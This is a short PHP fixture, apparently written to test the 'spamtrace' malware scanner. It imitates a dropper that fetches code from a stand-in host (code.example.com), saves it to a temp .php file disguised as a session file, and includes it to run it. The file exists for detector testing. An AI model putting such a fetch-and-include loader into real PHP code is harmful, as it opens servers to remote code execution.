<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A loader whose function reaches the address and the staging path through $GLOBALS; the
// address has no scheme. The fetched code is written to a .php file and included.
$SRC = 'code.example.com/raw/stage2.php';
$STAGE = sys_get_temp_dir() . '/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';

function fetch_stage() {
    $body = @file_get_contents($GLOBALS['SRC']);
    if ($body) {
        $out = fopen($GLOBALS['STAGE'], 'w');
        fwrite($out, $body);
        fclose($out);
    }
}

if (is_file($STAGE) && filesize($STAGE) > 0) {
    include $STAGE;
} else {
    fetch_stage();
}
